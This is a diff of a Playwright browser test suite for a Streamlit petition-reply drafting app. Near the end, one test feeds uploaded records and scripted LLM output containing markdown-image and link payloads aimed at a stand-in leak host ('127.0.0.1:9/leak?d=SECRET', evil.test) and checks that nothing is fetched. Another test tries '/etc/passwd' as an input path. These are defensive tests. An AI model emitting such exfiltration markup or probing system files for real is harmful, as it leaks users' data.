@@ -1,4 +1,5 @@
-"""What a person sees: `streamlit run app.py` on a loopback port, driven by a real headless Chromium.
+"""What a person sees, across the pages: the app driven by real headless Chromium (tests/browser.py),
+at 1366x768 and 1920x1080.
 
 Set UPDATE_SCREENSHOTS=1 to refresh docs/draft-page.png from this run.
 """
@@ -8,203 +9,23 @@ from __future__ import annotations
 import os
 import re
 import shutil
-import signal
-import socket
-import subprocess
-import sys
-import tempfile
-import time
-import urllib.request
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from tests.conftest import ROOT, require
+from tests.browser import GRID_PAINTED, WAIT, draft_petition, open_page, shot, wait_idle
+from tests.conftest import PETITION, ROOT, WOMBAT_REPLY
 from tests.fake_openai import FakeOpenAI
 
 pytestmark = pytest.mark.browser
-
-CHROMIUM = "/usr/bin/chromium"
-STREAMLIT = Path(sys.executable).parent / "streamlit"
-ARGS = [
-    "--headless=new",
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
-PETITION = (
-    "Petition P-06-1199: Place Cardiff Children's Services into special measures and conduct an urgent "
-    "independent review"
-)
-NEW_REPLY = """Julie Morgan AS/MS
-Deputy Minister for Social Services
-
-Your ref: Petition P-06-1302
-
-9 February 2023
-
-Dear Jack,
-
-Thank you for your letter asking for my views on the petition to 'Open a wombat sensory garden at every family centre'.
-
-The Welsh Government will fund a wombat sensory garden pilot in three family centres from April 2023.
-
-Yours sincerely,
-
-Julie Morgan AS/MS
-Deputy Minister for Social Services
-"""
-WAIT = 120_000  # ms: the first page load embeds the seed corpus
-
-
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return int(s.getsockname()[1])
-
-
-def _wait_healthy(url: str, proc: subprocess.Popen[bytes], log: Path, timeout: float = 90) -> None:
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        if proc.poll() is not None:
-            raise RuntimeError(f"streamlit exited early:\n{log.read_text(errors='replace')[-3000:]}")
-        try:
-            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as resp:
-                if resp.status == 200:
-                    return
-        except OSError:
-            time.sleep(0.5)
-    raise RuntimeError(f"streamlit did not become healthy in {timeout} s:\n{log.read_text(errors='replace')[-3000:]}")
-
-
-@pytest.fixture(scope="module")
-def llm() -> Iterator[FakeOpenAI]:
-    """A scripted OpenAI-compatible endpoint on loopback, for the app's streaming backend."""
-    fake = FakeOpenAI().start()
-    yield fake
-    fake.stop()
-
-
-@pytest.fixture(scope="module")
-def server(tmp_path_factory: pytest.TempPathFactory, llm: FakeOpenAI) -> Iterator[str]:
-    """The app on a free loopback port, over a fresh store (so it indexes the seeds itself), with
-    the offline backend by default and the scripted endpoint as the OpenAI-compatible one."""
-    require(Path(CHROMIUM).exists(), f"{CHROMIUM} is missing: apt-get install chromium")
-    require(STREAMLIT.exists(), f"{STREAMLIT} is missing: pip install -e .[dev]")
-    work = tmp_path_factory.mktemp("browser-server")
-    port = _free_port()
-    env = {k: v for k, v in os.environ.items() if not k.startswith(("YMATEB_", "OPENAI_"))}
-    env["YMATEB_STORE"] = str(work / "store")
-    env["YMATEB_LLM_BASE_URL"], env["YMATEB_LLM_API_KEY"] = llm.url, "sk-test"
-    log = work / "streamlit.log"
-    cmd = [
-        str(STREAMLIT),
-        "run",
-        "app.py",
-        "--server.port",
-        str(port),
-        "--server.address",
-        "127.0.0.1",
-        "--server.headless",
-        "true",
-        "--browser.gatherUsageStats",
-        "false",
-    ]
-    with open(log, "wb") as out:
-        proc = subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
-    url = f"http://127.0.0.1:{port}"
-    try:
-        _wait_healthy(url, proc, log)
-        yield url
-    finally:
-        _stop(proc)
-
-
-def _stop(proc: subprocess.Popen[bytes]) -> None:
-    if proc.poll() is None:
-        os.killpg(proc.pid, signal.SIGTERM)
-        try:
-            proc.wait(timeout=15)
-        except subprocess.TimeoutExpired:
-            os.killpg(proc.pid, signal.SIGKILL)
-            proc.wait(timeout=15)
-
-
-@pytest.fixture
-def page(server: str) -> Iterator[Any]:
-    try:
-        from playwright.sync_api import sync_playwright
-    except ImportError:  # pragma: no cover
-        require(False, "the playwright package is missing: pip install -e .[dev]")
-        raise
-    profile = tempfile.mkdtemp(prefix="ymateb-chromium-")
-    try:
-        with sync_playwright() as pw:
-            context = pw.chromium.launch_persistent_context(
-                profile,
-                executable_path=CHROMIUM,
-                args=ARGS,
-                headless=True,
-                viewport={"width": 1440, "height": 2000},
-                accept_downloads=True,
-            )
-            context.set_default_timeout(WAIT)
-            try:
-                yield context.new_page()
-            finally:
-                context.close()
-    finally:
-        shutil.rmtree(profile, ignore_errors=True)
-
-
-def _shot(page: Any, tmp_path: Path, name: str) -> Path:
-    folder = tmp_path / "screenshots"
-    folder.mkdir(exist_ok=True)
-    path = folder / f"{name}.png"
-    page.screenshot(path=str(path))
-    return path
-
-
-def _open(page: Any, server: str, path: str, heading: str) -> None:
-    page.goto(f"{server}/{path}", wait_until="domcontentloaded")
-    page.get_by_role("heading", name=heading).wait_for()
-
-
-def _wait_idle(page: Any) -> None:
-    """Until Streamlit has finished the current run: the app root reports its script as not running
-    and the status widget is gone. Call it after waiting for something the run shows, so the run
-    has begun."""
-    page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]').wait_for()
-    page.locator('[data-testid="stStatusWidget"]').wait_for(state="hidden")
-
-
-# True once a data grid holding `rows` rows (its accessibility table counts the header too) has
-# painted its canvas: glide-data-grid draws in the frame after React renders the new rows.
-_GRID_PAINTED = """(rows) => {
-    const grids = [...document.querySelectorAll('[data-testid="stDataFrame"]')].filter(
-        (g) => g.querySelector(`table[role="grid"][aria-rowcount="${rows + 1}"]`)
-    );
-    return grids.length > 0 && grids.every((g) => {
-        const c = g.querySelector('[data-testid="data-grid-canvas"]');
-        if (!c || !c.width || !c.height) return false;
-        const pixels = c.getContext("2d").getImageData(0, 0, c.width, c.height).data;
-        for (let i = 3; i < pixels.length; i += 4) if (pixels[i]) return true;
-        return false;
-    });
-}"""
 
 
 def test_draft_a_petition_reply_open_a_citation_and_download_it(server: str, page: Any, tmp_path: Path) -> None:
     from docx import Document
     from playwright.sync_api import expect
 
-    _open(page, server, "", "Draft a reply")
+    open_page(page, server, "", "Draft a reply")
     box = page.get_by_label("…or paste its text")
     box.fill(PETITION)
     box.press("Control+Enter")
@@ -221,11 +42,11 @@ def test_draft_a_petition_reply_open_a_citation_and_download_it(server: str, pag
     expect(cited).to_be_visible()
     assert len(cited.inner_text()) > 80
     expect(page.get_by_text("23 September 2021 · Julie Morgan")).to_be_visible()
-    _wait_idle(page)
-    shot = _shot(page, tmp_path, "draft")
-    if os.environ.get("UPDATE_SCREENSHOTS") == "1":
+    wait_idle(page)
+    saved_shot = shot(page, "draft")
+    if os.environ.get("UPDATE_SCREENSHOTS") == "1" and page.screen == "1366x768":
         (ROOT / "docs").mkdir(exist_ok=True)
-        shutil.copyfile(shot, ROOT / "docs" / "draft-page.png")
+        shutil.copyfile(saved_shot, ROOT / "docs" / "draft-page.png")
 
     with page.expect_download() as info:
         page.get_by_role("button", name="Download .docx").click()
@@ -246,14 +67,8 @@ def test_an_edit_typed_then_downloaded_at_once_is_what_the_docx_holds_and_is_che
     from docx import Document
     from playwright.sync_api import expect
 
-    _open(page, server, "", "Draft a reply")
-    box = page.get_by_label("…or paste its text")
-    box.fill(PETITION)
-    box.press("Control+Enter")
-    expect(page.get_by_role("textbox", name="Number")).to_have_value("P-06-1199", timeout=30_000)
-    page.get_by_role("button", name="Draft reply").click()
-    page.get_by_text("Drafted with").wait_for()
-    _wait_idle(page)
+    draft_petition(page, server)
+    wait_idle(page)
 
     invented = "Care Inspectorate Wales inspected every council in 2022 [9]."
     edit = page.get_by_role("textbox", name="Edit the draft")
@@ -272,26 +87,26 @@ def test_an_edit_typed_then_downloaded_at_once_is_what_the_docx_holds_and_is_che
     flagged = page.get_by_text("[9] matches none", exact=False)
     expect(flagged.first).to_be_visible()
     expect(page.get_by_text("Your edits were checked again", exact=False)).to_be_visible()
-    _wait_idle(page)
-    _shot(page, tmp_path, "edited-and-downloaded")
+    wait_idle(page)
+    shot(page, "edited-and-downloaded")
 
 
 def test_upload_on_the_corpus_page_then_find_it_in_precedents(server: str, page: Any, tmp_path: Path) -> None:
     from playwright.sync_api import expect
 
     upload = tmp_path / "wombat-reply.txt"
-    upload.write_text(NEW_REPLY, encoding="utf-8")
-    _open(page, server, "corpus", "Corpus")
+    upload.write_text(WOMBAT_REPLY, encoding="utf-8")
+    open_page(page, server, "corpus", "Corpus")
     page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(upload))
     page.get_by_text("wombat-reply.txt").first.wait_for()
     add = page.get_by_role("button", name="Add to the index")
     expect(add).to_be_enabled()
     add.click()
     page.get_by_text("Documents in the index").wait_for()
-    _wait_idle(page)
+    wait_idle(page)
     expect(page.get_by_test_id("stMetricValue").first).to_have_text("6")
-    page.wait_for_function(_GRID_PAINTED, arg=6)  # the six-document listing has painted: screenshot it
-    _shot(page, tmp_path, "corpus")
+    page.wait_for_function(GRID_PAINTED, arg=6)  # the six-document listing has painted: screenshot it
+    shot(page, "corpus")
 
     page.get_by_role("link", name="Precedents").click()
     page.get_by_role("heading", name="Precedents").wait_for()
@@ -300,18 +115,18 @@ def test_upload_on_the_corpus_page_then_find_it_in_precedents(server: str, page:
     first = page.get_by_text("P-06-1302 · 9 February 2023").first
     first.wait_for()
     expect(page.locator("mark.ym-term").first).to_be_visible()
-    _wait_idle(page)
-    _shot(page, tmp_path, "precedents")
+    wait_idle(page)
+    shot(page, "precedents")
 
 
 def test_the_evaluation_page_runs_the_suite(server: str, page: Any, tmp_path: Path) -> None:
-    _open(page, server, "evaluation", "Evaluation")
+    open_page(page, server, "evaluation", "Evaluation")
     page.get_by_role("button", name="Run evaluation").click()
     page.get_by_text("Summary against both baselines").wait_for()
     page.get_by_text("One case in detail").wait_for()
     page.locator('[data-testid="stImage"] img').nth(1).wait_for()  # the report's two charts
-    _wait_idle(page)
-    _shot(page, tmp_path, "evaluation")
+    wait_idle(page)
+    shot(page, "evaluation")
 
 
 IMAGE = "![x](http://127.0.0.1:9/leak?d=SECRET)"
@@ -350,12 +165,12 @@ def test_untrusted_markup_never_makes_the_browser_fetch_anything(
     page.route("**/*", only_the_app)
     records = tmp_path / "hostile.jsonl"
     records.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
-    _open(page, server, "corpus", "Corpus")
+    open_page(page, server, "corpus", "Corpus")
     page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(records))
     page.get_by_text("hostile.jsonl").first.wait_for()
     page.get_by_role("button", name="Add to the index").click()
     page.get_by_text("Documents in the index").wait_for()
-    _wait_idle(page)
+    wait_idle(page)
 
     page.get_by_role("link", name="Precedents").click()
     page.get_by_role("heading", name="Precedents").wait_for()
@@ -363,8 +178,8 @@ def test_untrusted_markup_never_makes_the_browser_fetch_anything(
     page.get_by_role("button", name="Search").click()
     page.get_by_text("P-06-1402 ![x](http\u2060://127.0.0.1:9/leak?d=SECRET)").first.wait_for()  # shown as text
     page.get_by_role("tab", name="Timeline").click()
-    page.get_by_text("Latest line").wait_for()
-    _wait_idle(page)
+    page.get_by_text("Latest line", exact=True).wait_for()
+    wait_idle(page)
 
     llm.reply("Quokka therapy rooms are funded ", IMAGE, " ", TAG, " ", LINK, " [1].")
     page.get_by_role("link", name="Draft").click()
@@ -378,11 +193,10 @@ def test_untrusted_markup_never_makes_the_browser_fetch_anything(
     page.get_by_text("Drafted with").wait_for()
     page.get_by_role("radio", name=re.compile(r"^\[1\] P-06-1402 !\[x\]")).click()  # the label is text
     page.locator("mark.ym-cited").first.wait_for()
-    _wait_idle(page)
-    _shot(page, tmp_path, "hostile")
+    wait_idle(page)
+    shot(page, "hostile")
 
     assert llm.requests, "the draft was streamed from the scripted endpoint"
-    # (Streamlit asks fonts.gstatic.com for the app's own :material/...: icons; refused here.)
     assert [u for u in elsewhere if "127.0.0.1:9" in u or "evil.test" in u] == []
     found = page.locator("img[src*='leak'], a[href*='evil'], a[href*='leak']")
     assert found.count() == 0, [found.nth(i).evaluate("e => e.parentElement.outerHTML") for i in range(found.count())]
@@ -396,7 +210,7 @@ def test_a_date_read_from_the_text_is_flagged_until_the_official_ticks_it(
     from docx import Document
     from playwright.sync_api import expect
 
-    _open(page, server, "", "Draft a reply")
+    open_page(page, server, "", "Draft a reply")
     box = page.get_by_label("…or paste its text")
     box.fill(PETITION + "\n\ndate: 2020-01-01\n")
     box.press("Control+Enter")
@@ -406,12 +220,17 @@ def test_a_date_read_from_the_text_is_flagged_until_the_official_ticks_it(
     warning = page.get_by_text("1 January 2020 was read from the incoming text", exact=False)
     expect(warning.first).to_be_visible()
 
-    page.get_by_text("Date checked").click()
-    _wait_idle(page)
+    wait_idle(page)  # the first draft's run (and its scroll into view) is over before the tick
+    tick = page.get_by_role("checkbox", name="Date checked")
+    tick.check(force=True)
+    expect(tick).to_be_checked()
+    page.get_by_text("Date checked by you").wait_for()  # the run for the tick has drawn the page
+    wait_idle(page)
     page.get_by_role("button", name="Draft reply").click()
-    page.get_by_text("Drafted with").wait_for()
-    _wait_idle(page)
-    expect(warning).to_have_count(0)
+    # The first draft's "Drafted with" is still on the page while the second is made: wait for the
+    # warning to go (the second draft shown), however long drafting takes on a busy machine.
+    expect(warning).to_have_count(0, timeout=WAIT)
+    wait_idle(page)
     with page.expect_download() as info:
         page.get_by_role("button", name="Download .docx").click()
     saved = tmp_path / "dated.docx"
@@ -421,15 +240,22 @@ def test_a_date_read_from_the_text_is_flagged_until_the_official_ticks_it(
 
 
 def test_the_evaluation_page_refuses_a_server_path_outside_its_folders(server: str, page: Any) -> None:
-    """Type /etc as the corpus and run: one message, and no run (the default run is the test above)."""
+    """A file that exists outside the page's folders and one that does not get the same one
+    message, no run, and no free path is offered for a result file at all (a picker instead)."""
     from playwright.sync_api import expect
 
-    _open(page, server, "evaluation", "Evaluation")
-    corpus = page.get_by_role("textbox", name="Corpus")
-    corpus.fill("/etc")
-    page.get_by_role("button", name="Run evaluation").click()
-    refused = page.get_by_text("not in a folder this page may read", exact=False)
-    refused.first.wait_for()
-    _wait_idle(page)
-    expect(refused).to_have_count(1)
+    open_page(page, server, "evaluation", "Evaluation")
+    expect(page.get_by_role("textbox", name="…or its path")).to_have_count(0)
+    expect(page.get_by_role("combobox", name="…or a saved run")).to_be_visible()
+    shown = []
+    for typed in ("/etc/passwd", "/etc/no-such-cases-file.jsonl"):
+        page.get_by_role("textbox", name="Cases file").fill(typed)
+        page.get_by_role("button", name="Run evaluation").click()
+        refused = page.get_by_text("not in a folder this page may read", exact=False)
+        refused.first.wait_for()
+        wait_idle(page)
+        expect(refused).to_have_count(1)
+        shown.append(refused.first.inner_text())
+        assert "passwd" not in shown[-1] and "readable" not in shown[-1]
+    assert shown[0] == shown[1]
     expect(page.get_by_text("Summary against both baselines")).to_have_count(0)
